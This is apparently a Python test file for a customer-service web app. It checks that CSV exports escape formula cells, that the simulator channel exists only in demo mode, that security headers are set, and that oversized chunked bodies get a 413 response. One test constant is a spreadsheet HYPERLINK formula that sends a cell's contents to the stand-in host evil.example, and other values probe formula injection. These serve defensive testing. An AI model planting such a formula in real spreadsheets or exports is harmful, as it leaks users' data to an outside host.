"""Issue 19, items 7-10 over HTTP: CSV exports a spreadsheet cannot run, the simulator only in demo
mode, security headers on every HTML page (the embeddable chat page excepted), chunked bodies 413."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from scrm.bootstrap import build_context
from scrm.context import AppContext
from scrm.db.models import Contact, utcnow
from scrm.services.desk import reports
from scrm.settings import Settings
from scrm.web.headers import APP_CSP
from tests.conftest import login, make_inbox
from tests.core.test_webhook_bodies import chunks

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


async def test_csv_exports_escape_formula_cells_and_import_back_unchanged(client, ctx, admin) -> None:
    headers = await login(client, admin["login"], admin["password"])
    async with ctx.db.transaction() as s:
        now = utcnow()
        s.add(Contact(name=FORMULA, phone="+8613800138000", email="a@example.com", attributes={"note": "@SUM(1)"},
                      opt_outs={}, first_seen_at=now, last_seen_at=now))
    resp = await client.get("/api/v1/contact-export", headers=headers)
    assert resp.status == 200
    exported = await resp.text()
    [header, row] = rows_of(exported)
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + FORMULA and cells["phone"] == "'+8613800138000"
    assert cells["email"] == "a@example.com"  # plain text stays as it was
    # Our own import reads its export back to the same values.
    data = base64.b64encode(exported.encode("utf-8")).decode()
    resp = await client.post("/api/v1/contact-import", headers=headers, json={
        "data_base64": data, "mapping": {"name": "name", "phone": "phone", "email": "email"}})
    assert resp.status in (200, 201), await resp.text()
    async with ctx.db.session() as s:
        contact = await s.get(Contact, 1)
    assert (contact.name, contact.phone) == (FORMULA, "+8613800138000")

    # FAQ export (and its import), report rows: the same helper.
    entry = {"id": "calc", "question": "-1+1 等于几？", "answer": "=1+1", "paraphrases": ["@calc"]}
    resp = await client.post("/api/v1/faq/import?format=json", data=json.dumps([entry]), headers=headers)
    assert resp.status in (200, 201), await resp.text()
    faq_csv = await (await client.get("/api/v1/faq/export?format=csv", headers=headers)).text()
    [fh, *frows] = rows_of(faq_csv)
    faq = dict(zip(fh, next(r for r in frows if r[fh.index("id")] == "calc"), strict=True))
    assert (faq["question"], faq["answer"], faq["paraphrases"]) == ("'-1+1 等于几？", "'=1+1", "'@calc")
    resp = await client.post("/api/v1/faq/import?format=csv&dry_run=1", data=faq_csv.encode(), headers=headers)
    assert (await resp.json())["errors"] == []
    report = rows_of(reports.to_csv([{"group": "\tcmd", "opened": -3}], ("group", "opened")))
    assert report[1] == ["'\tcmd", "-3"]  # numbers stay numbers


@pytest.fixture
async def production_client(aiohttp_client: Any, settings: Settings) -> AsyncIterator[tuple[Any, AppContext]]:
    """The app with server.demo off, as `scrm serve` runs in production."""
    from scrm.web.app import create_app

    prod = settings.model_copy(update={"server": settings.server.model_copy(update={"demo": False})})
    context = await build_context(prod)
    yield await aiohttp_client(create_app(prod, ctx=context, run_background=False)), context
    await context.close()


async def test_the_simulator_channel_exists_only_in_demo_mode(production_client) -> None:
    client, context = production_client
    from scrm.services.agents.accounts import create_agent

    async with context.db.transaction() as s:
        await create_agent(s, login="root", password="correct-horse-1", role="admin", display_name="Root")
    headers = await login(client, "root", "correct-horse-1")
    inbox = await make_inbox(context, "memory", name="old simulator", secrets={})
    resp = await client.post(f"/webhooks/memory/{inbox.id}", json={"id": "1", "sender": "u", "text": "hi"})
    assert resp.status == 404
    resp = await client.post("/api/v1/inboxes", json={"name": "sim", "channel_type": "memory"}, headers=headers)
    assert resp.status == 400 and (await resp.json())["error"]["code"] == "demo_only"
    types = await (await client.get("/api/v1/channel_types", headers=headers)).json()
    assert "memory" not in [t["channel_type"] for t in types["items"]]
    listed = await (await client.get("/api/v1/inboxes", headers=headers)).json()
    assert "memory" not in listed["channel_types"] and "api" in listed["channel_types"]


async def test_demo_mode_keeps_the_simulator(client, ctx) -> None:
    inbox = await make_inbox(ctx, "memory", name="Sim", secrets={})
    resp = await client.post(f"/webhooks/memory/{inbox.id}", json={"id": "1", "sender": "u", "text": "hi"})
    assert resp.status == 200


async def test_every_html_page_gets_the_headers_once_and_the_chat_page_may_be_framed(client, ctx) -> None:
    for path in ("/", "/login", "/reports", "/desk/reports", "/admin", "/static/index.html"):
        resp = await client.get(path)
        assert resp.status == 200, path
        assert resp.headers.getall("Content-Security-Policy") == [APP_CSP], path
        assert resp.headers.getall("X-Frame-Options") == ["DENY"], path
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'none'" in APP_CSP
    # The web chat page is embedded in customers' sites: its own frame-ancestors, no X-Frame-Options.
    from tests.web.webchat_helpers import make_web_inbox

    web_inbox = await make_web_inbox(ctx, ["https://shop.example"])
    page = await client.get(f"/chat/{web_inbox.id}")
    assert page.status == 200
    assert "X-Frame-Options" not in page.headers
    [csp] = page.headers.getall("Content-Security-Policy")
    assert "frame-ancestors 'self' https://shop.example" in csp
    # JSON answers are not pages: no CSP needed, nosniff still.
    api = await client.get("/healthz")
    assert "X-Frame-Options" not in api.headers and api.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("segment,channel_type", [("wecom", "wecom_kf"), ("wecom-contacts", "wecom_contacts")])
async def test_chunked_bodies_over_the_limit_are_413_on_wecom_webhooks(client, ctx, settings, segment,
                                                                      channel_type) -> None:
    inbox = await make_inbox(ctx, channel_type, name=segment,
                             settings={"corp_id": "ww1234567890abcdef", "open_kfid": "wk1"},
                             secrets={"secret": "x" * 20, "token": "t", "encoding_aes_key": "a" * 43})
    body = b"<xml>" + b" " * settings.server.max_body_bytes + b"</xml>"
    resp = await client.post(f"/webhooks/{segment}/{inbox.id}?msg_signature=x&timestamp=1&nonce=1",
                             data=chunks(body, 64 * 1024))
    assert resp.request_info.headers.get("Transfer-Encoding") == "chunked"
    assert resp.status == 413 and (await resp.json())["error"]["code"] == "too_large"


async def test_web_chat_reads_chunked_json_whole_and_refuses_it_over_the_limit(client, ctx) -> None:
    from scrm.web.webchat_common import JSON_LIMIT
    from tests.web.webchat_helpers import make_web_inbox

    inbox = await make_web_inbox(ctx, ["https://shop.example"])
    origin = {"Origin": "https://shop.example", "Content-Type": "application/json"}
    small = json.dumps({"visitor": None, "padding": "x" * 40_000}).encode()  # arrives over several reads
    resp = await client.post(f"/chat/{inbox.id}/session", data=chunks(small, 4096), headers=origin)
    assert resp.status == 200, await resp.text()
    big = json.dumps({"padding": "x" * (JSON_LIMIT + 10)}).encode()
    resp = await client.post(f"/chat/{inbox.id}/session", data=chunks(big, 4096), headers=origin)
    assert resp.status == 413 and (await resp.json())["error"]["code"] == "too_large"
